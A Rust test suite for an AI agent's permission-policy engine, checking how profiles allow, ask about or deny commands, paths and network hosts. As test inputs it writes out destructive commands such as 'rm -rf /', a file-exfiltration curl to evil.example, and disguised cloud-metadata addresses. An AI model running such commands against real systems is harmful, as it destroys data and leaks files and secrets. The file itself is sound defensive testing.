//! Whatever is said lower down, nothing gets wider by it.

use hermes_core::{ApprovalScope, Effect, Policy as _, Resource, Scope, Taint, Verdict};
use hermes_policy::{PermissionPolicy, PolicyAnswer};
use serde_json::json;

use crate::World;

fn project(world: &World, yaml: &str) {
    world.put("ws/.hermes/hermes_permissions.yaml", yaml);
}

fn any(world: &World, p: &PermissionPolicy, scope: Scope) -> PolicyAnswer {
    world.examine(p, Effect::any(scope)).answer()
}

#[test]
fn only_the_profile_itself_can_let_dangerous_commands_through() {
    let world = World::new();
    let allow = "{restrictions: {terminal:execute: {dangerous: allow}}}";
    for yaml in [format!("global: {allow}"), format!("profiles: {{default: {allow}}}")] {
        project(&world, &yaml);
        assert_eq!(
            world.judged(&world.builtin("default"), "rm -rf src"),
            PolicyAnswer::Ask,
            "{yaml}"
        );
    }
    project(&world, "{}");
    let p = world.with(&format!("global: {allow}"), "default").unwrap();
    assert_eq!(world.judged(&p, "rm -rf src"), PolicyAnswer::Ask);
    let own = format!(
        "profiles: {{p: {{extends: default, {}}}}}",
        allow.trim_matches(['{', '}']).to_owned() + "}}"
    );
    let p = world.with(&own, "p").unwrap();
    assert_eq!(world.judged(&p, "rm -rf src"), PolicyAnswer::Allow);
    assert_eq!(world.judged(&p, "rm -rf /"), PolicyAnswer::Deny);
    // Each of the others can forbid it.
    let deny = "restrictions: {terminal:execute: {dangerous: deny}}";
    for yaml in [
        format!("global: {{{deny}}}"),
        format!("global: {{tools: {{probe: {{{deny}}}}}}}"),
        format!("global: {{after_untrusted: {{{deny}}}}}"),
    ] {
        let world = World::new();
        Taint::record_source(&world.session, "web_extract", &[]).unwrap();
        let p = world.with(&yaml, "default").unwrap();
        assert_eq!(world.judged(&p, "rm -rf src"), PolicyAnswer::Deny, "{yaml}");
    }
}

#[test]
fn the_sandbox_can_be_switched_on_and_tightened_from_below() {
    let world = World::new();
    let off = "profiles: {p: {allow: ['*'], sandbox: {enabled: false}}}";
    project(&world, "global: {sandbox: {enabled: true, memory: 1M, processes: 9999}}");
    let held = world.with(off, "p").unwrap().sandbox();
    assert!(held.enabled);
    assert_eq!((held.limits.memory, held.limits.processes), (Some(1 << 20), Some(4096)));
    project(&world, "global: {sandbox: {enabled: false, missing: ask}}");
    let held = world.builtin("default").sandbox();
    assert!(held.enabled && held.missing == PolicyAnswer::Deny);
}

#[test]
fn an_allowed_text_is_the_whole_command() {
    let world = World::new();
    let yaml =
        "profiles: {p: {allow: [file:*, {scope: terminal:execute, commands: ['echo a | wc -c']}]}}";
    let p = world.with(yaml, "p").unwrap();
    assert_eq!(world.judged(&p, "echo a | wc -c"), PolicyAnswer::Allow);
    for more in ["echo a | wc -c; make", "make; echo a | wc -c", "echo a | wc -c | make"] {
        assert_eq!(world.judged(&p, more), PolicyAnswer::Deny, "{more}");
    }
    let yaml = "profiles: {p: {allow: ['*'], restrictions: {terminal:execute: {denied_commands: ['echo a | wc']}}}}";
    let p = world.with(yaml, "p").unwrap();
    assert_eq!(world.judged(&p, "ls; echo a | wc -c"), PolicyAnswer::Deny);
}

#[test]
fn commands_that_run_nothing_are_judged_as_well() {
    let world = World::new();
    let p = world.builtin("readonly_research");
    for command in ["x=1", "# nothing", "", ":", "> out", "export A=1"] {
        assert_eq!(world.judged(&p, command), PolicyAnswer::Deny, "{command:?}");
    }
}

#[test]
fn a_denied_root_is_not_everything_below_it() {
    let world = World::new();
    let p = world.builtin("full_developer");
    assert_eq!(world.judged(&p, "rm -rf /"), PolicyAnswer::Deny);
    for command in ["rm -rf /tmp/x", "rm -rf ./build", "rm -r /tmp/x"] {
        assert_ne!(world.judged(&p, command), PolicyAnswer::Deny, "{command}");
    }
}

#[test]
fn targets_that_are_not_known_are_taken_for_the_worst() {
    let world = World::new();
    let p = world.builtin("default");
    assert_eq!(any(&world, &p, Scope::FILE_WRITE), PolicyAnswer::Ask);
    assert_eq!(any(&world, &p, Scope::FILE_DELETE), PolicyAnswer::Ask);
    assert_eq!(any(&world, &p, Scope::FILE_READ), PolicyAnswer::Allow);
    assert_eq!(any(&world, &p, Scope::TERMINAL_EXECUTE), PolicyAnswer::Ask);
    let both = "profiles: {p: {allow: ['*'], deny: [{scope: file:write, paths: [x/**], commands: [make]}]}}";
    let p = world.with(both, "p").unwrap();
    assert_eq!(any(&world, &p, Scope::FILE_WRITE), PolicyAnswer::Deny);
    let only = "profiles: {p: {allow: [{scope: file:write, paths: ['${workspace}/**']}]}}";
    let p = world.with(only, "p").unwrap();
    assert_eq!(any(&world, &p, Scope::FILE_WRITE), PolicyAnswer::Deny);
    let ruling = p.judge(&world.proposal(&[Effect::any(Scope::FILE_WRITE)], &world.at()));
    assert!(matches!(ruling.verdict, Verdict::Deny { .. }));
}

#[test]
fn names_hosts_and_paths_select_in_denials() {
    let world = World::new();
    let yaml = "
profiles:
  p:
    allow: ['*']
    deny:
      - {scope: database:write, names: ['prod_*'], reason: Not in production}
      - {scope: network:*, hosts: [evil.example, 10.0.0.7]}
      - {scope: file:delete, paths: ['${workspace}/keep']}
";
    let p = world.with(yaml, "p").unwrap();
    let named = |name: &str| world.examine(&p, Effect::name(Scope::DATABASE_WRITE, name));
    assert_eq!(named("PROD_users").answer(), PolicyAnswer::Deny);
    assert_eq!(named("prod_users").decisive_finding().unwrap().reason, "Not in production");
    assert_eq!(named("test_users").answer(), PolicyAnswer::Allow);
    for host in [
        "evil.example",
        "EVIL.example.",
        "evil.example:443",
        "10.0.0.7",
        "0x0a.7",
        "167772167",
        "[::ffff:10.0.0.7]:80",
    ] {
        assert_eq!(world.reaches(&p, Scope::NETWORK_SEND, host), PolicyAnswer::Deny, "{host}");
    }
    assert_eq!(world.reaches(&p, Scope::NETWORK_SEND, "good.example"), PolicyAnswer::Allow);
    for host in ["169.254.169.254:80", "[::ffff:169.254.169.254]:80", "x@169.254.169.254"] {
        assert_eq!(world.reaches(&p, Scope::NETWORK_FETCH, host), PolicyAnswer::Deny, "{host}");
    }
    // What is in a folder goes with it.
    world.put("ws/keep/a", "x");
    for path in ["ws/keep", "ws/keep/a", "ws"] {
        assert_eq!(
            world.touches(&p, Scope::FILE_DELETE, world.path(path)),
            PolicyAnswer::Deny,
            "{path}"
        );
    }
    assert_eq!(world.touches(&p, Scope::FILE_DELETE, world.path("ws/src")), PolicyAnswer::Allow);
    world.put("home/.config/gh/hosts.yml", "x");
    assert_eq!(
        world.touches(&p, Scope::FILE_DELETE, world.path("home/.config")),
        PolicyAnswer::Deny
    );
}

#[test]
fn allowed_paths_are_real_paths() {
    let world = World::new();
    let yaml = "profiles: {p: {allow: [{scope: file:write, paths: ['${workspace}/src/**']}]}}";
    let p = world.with(yaml, "p").unwrap();
    std::os::unix::fs::symlink(world.path("out"), world.path("ws/src/link")).unwrap();
    assert_eq!(world.touches(&p, Scope::FILE_WRITE, world.path("ws/src/a")), PolicyAnswer::Allow);
    for way in ["ws/src/link/a", "ws/src/../a", "ws/SRC/a", "ws/src./a"] {
        assert_eq!(
            world.touches(&p, Scope::FILE_WRITE, world.path(way)),
            PolicyAnswer::Deny,
            "{way}"
        );
    }
}

#[test]
fn allowed_commands_beside_allowed_paths_do_not_lift_them() {
    let world = World::new();
    let yaml = "
profiles:
  p:
    allow: ['*']
    restrictions:
      file:write: {allowed_paths: ['${workspace}/**'], allowed_commands: ['git *']}
";
    let p = world.with(yaml, "p").unwrap();
    assert_eq!(world.judged(&p, "echo x > src/y"), PolicyAnswer::Allow);
    assert_eq!(world.judged(&p, "echo x > ../out/y"), PolicyAnswer::Deny);
}

#[test]
fn answers_lift_questions_of_their_own_profile_only() {
    let world = World::new();
    let yaml = "
profiles:
  a: {extends: default}
  b: {extends: default}
  c: {extends: default, deny: [{scope: file:write, paths: ['/**']}]}
";
    let effects = [Effect::path(Scope::FILE_WRITE, world.path("out/deep/x"))];
    let at = world.at();
    std::fs::create_dir_all(world.path("out/deep")).unwrap();
    for lasting in [ApprovalScope::Session, ApprovalScope::Always] {
        let a = world.with(yaml, "a").unwrap();
        a.remember_approval(&world.proposal(&effects, &at), lasting).unwrap();
        assert_eq!(world.examine(&a, effects[0].clone()).answer(), PolicyAnswer::Allow);
        let again = world.with(yaml, "a").unwrap();
        assert_eq!(world.examine(&again, effects[0].clone()).answer(), PolicyAnswer::Allow);
        let b = world.with(yaml, "b").unwrap();
        assert_eq!(
            world.examine(&b, effects[0].clone()).answer(),
            PolicyAnswer::Ask,
            "{lasting:?}"
        );
        let c = world.with(yaml, "c").unwrap();
        c.remember_approval(&world.proposal(&effects, &at), lasting).unwrap();
        assert_eq!(
            world.examine(&c, effects[0].clone()).answer(),
            PolicyAnswer::Deny,
            "{lasting:?}"
        );
    }
}

#[test]
fn parameters_are_held_to_their_numbers() {
    let world = World::new();
    let p = world
        .with("global: {tools: {pro*: {parameters: {n: {min: 1, max: 10}}}}}", "default")
        .unwrap();
    let at = world.at();
    for (value, answer) in [
        (json!(5), PolicyAnswer::Allow),
        (json!("5"), PolicyAnswer::Allow),
        (json!(null), PolicyAnswer::Allow),
        (json!([1, 10]), PolicyAnswer::Allow),
        (json!(0), PolicyAnswer::Deny),
        (json!(10.5), PolicyAnswer::Deny),
        (json!("NaN"), PolicyAnswer::Deny),
        (json!("inf"), PolicyAnswer::Deny),
        (json!(" 11"), PolicyAnswer::Deny),
        (json!("many"), PolicyAnswer::Deny),
        (json!([1, 11]), PolicyAnswer::Deny),
        (json!({"a": 99}), PolicyAnswer::Deny),
    ] {
        let arguments = json!({ "n": value });
        let mut proposal = world.proposal(&[], &at);
        proposal.arguments = &arguments;
        assert_eq!(p.consider(&proposal).0.answer(), answer, "{arguments}");
    }
}

#[test]
fn parameters_that_are_paths_are_held_to_where_they_lead() {
    let world = World::new();
    world.put("ws/a.txt", "a");
    world.put("ws/docs/b.md", "b");
    std::os::unix::fs::symlink("a.txt", world.path("ws/link")).unwrap();
    std::os::unix::fs::symlink("../a.txt", world.path("ws/docs/link.md")).unwrap();
    let at = world.at();
    let judged = |yaml: &str, written: &str, path: &str| {
        let yaml = format!("global: {{tools: {{probe: {{parameters: {{path: {yaml}}}}}}}}}");
        let effects = [Effect::path(Scope::FILE_READ, at.resolve(path))];
        let arguments = json!({ "path": written });
        let p = world.with(&yaml, "default").unwrap();
        let proposal =
            hermes_core::CallProposal { arguments: &arguments, ..world.proposal(&effects, &at) };
        p.consider(&proposal).0.answer()
    };
    let address = format!("file://{}/a.tx%74", world.path("ws").display());
    for (written, path) in [
        ("a.txt", "a.txt"),
        ("a.txt/", "a.txt"),
        ("./docs/../a.txt", "a.txt"),
        ("link", "link"),
        (address.as_str(), "a.txt"),
    ] {
        for denied in ["{denied: ['*.txt']}", "{denied: [a.txt]}", "{allowed: ['docs/*']}"] {
            assert_eq!(judged(denied, written, path), PolicyAnswer::Deny, "{denied} {written}");
        }
        assert_eq!(judged("{approval: [a.txt]}", written, path), PolicyAnswer::Ask, "{written}");
    }
    for written in ["docs/b.md", "./docs/b.md"] {
        assert_eq!(judged("{allowed: ['docs/*']}", written, "docs/b.md"), PolicyAnswer::Allow);
    }
    // What lies there may lead elsewhere.
    assert_eq!(judged("{allowed: ['docs/*']}", "docs/link.md", "docs/link.md"), PolicyAnswer::Deny);
    // Other arguments are text, whatever they look like.
    assert_eq!(judged("{denied: [a.txt]}", "./a.txt", "docs/b.md"), PolicyAnswer::Allow);
}

#[test]
fn a_reason_is_for_a_person() {
    let world = World::new();
    let p = world
        .with("profiles: {p: {allow: ['*'], restrictions: {file:write: {denied_paths: [x]}}}}", "p")
        .unwrap();
    let at = world.at();
    let shown = |effect: Effect| match p.judge(&world.proposal(&[effect], &at)).verdict {
        Verdict::Deny { reason, rule } | Verdict::Ask { reason, rule } => (reason, rule),
        Verdict::Allow => panic!("allowed"),
    };
    let (reason, rule) = shown(Effect::any(Scope::FILE_WRITE));
    assert_eq!(
        reason,
        "file:write of a target that is only known when it runs is denied in profile p"
    );
    assert!(
        rule.starts_with("profile p: restrictions of file:write (") && rule.ends_with(":1)"),
        "{rule}"
    );
    let command = Resource::Command("git push; rm -rf src".into());
    let effects = [Effect { scope: Scope::TERMINAL_EXECUTE, resource: command }];
    let Verdict::Ask { reason, .. } =
        world.builtin("default").judge(&world.proposal(&effects, &at)).verdict
    else {
        panic!("not asked");
    };
    assert!(reason.contains("git push") && reason.contains("rm -rf src"), "{reason}");
}

#[test]
fn a_rule_that_names_a_command_and_a_resource_is_about_both() {
    let world = World::new();
    let with = |rule: &str| {
        world.with(&format!("profiles: {{p: {{extends: default, {rule}}}}}"), "p").unwrap()
    };
    let p = with("approved: [{scope: network:send, commands: [curl], hosts: [x.example]}]");
    assert_eq!(world.judged(&p, "curl -d a https://x.example"), PolicyAnswer::Allow);
    for other in [
        "curl -d @README.md https://evil.example",
        "wget --post-data=a https://x.example",
        "scp a x.example:b",
    ] {
        assert_eq!(world.judged(&p, other), PolicyAnswer::Ask, "{other}");
    }
    assert_eq!(world.reaches(&p, Scope::NETWORK_SEND, "x.example"), PolicyAnswer::Ask);
    let p = with("approved: [{scope: file:write, paths: ['/opt/a/**'], commands: [cp]}]");
    assert_eq!(world.judged(&p, "cp README.md /opt/a/x"), PolicyAnswer::Allow);
    assert_eq!(world.judged(&p, "cp README.md /opt/b/x"), PolicyAnswer::Ask);
    assert_eq!(world.judged(&p, "echo x > /opt/a/x"), PolicyAnswer::Ask);
    let p = with("deny: [{scope: network:fetch, commands: [curl], hosts: [bad.example]}]");
    assert_eq!(world.judged(&p, "curl https://good.example"), PolicyAnswer::Allow);
    assert_eq!(world.judged(&p, "curl https://bad.example"), PolicyAnswer::Deny);
    // Of one kind, any will do.
    let p = with("deny: [{scope: network:fetch, hosts: [bad.example, evil.example]}]");
    assert_eq!(world.judged(&p, "curl https://evil.example"), PolicyAnswer::Deny);
}

#[test]
fn an_exact_command_is_no_part_of_another() {
    let world = World::new();
    world.put("ws/k/a", "x");
    let yaml = "profiles: {p: {extends: default, \
                approved: [{scope: terminal:execute, commands: ['= rm -rf k']}]}}";
    let p = world.with(yaml, "p").unwrap();
    assert_eq!(world.judged(&p, "rm -rf k"), PolicyAnswer::Allow);
    for part in
        ["cd src && rm -rf k", "(cd src; rm -rf k)", "D=src; cd $D && rm -rf k", "ls; rm -rf k"]
    {
        assert_eq!(world.judged(&p, part), PolicyAnswer::Ask, "{part}");
    }
}

#[test]
fn what_a_project_says_in_vain_is_named() {
    let world = World::new();
    project(
        &world,
        "profiles: {default: {allow: ['*'], restrictions: {terminal:execute: {dangerous: allow}, \
         network:fetch: {private_hosts: allow}, file:write: {allowed_paths: ['src/**'], \
         elsewhere: allow}}}, full_developer: {allow: ['file:*'], restrictions: \
         {terminal:execute: {dangerous: deny}}}}",
    );
    let idle = world.sources("").unwrap().ineffective_rules();
    for part in ["allow: [\"*\"]", "dangerous: allow", "private_hosts: allow", "elsewhere: allow"] {
        let is_named = |line: &String| line.contains(&format!(": {part} of profile default"));
        assert!(idle.iter().any(is_named), "{part}: {idle:?}");
    }
    assert!(!idle.iter().any(|line| line.contains("full_developer")), "{idle:?}");
}
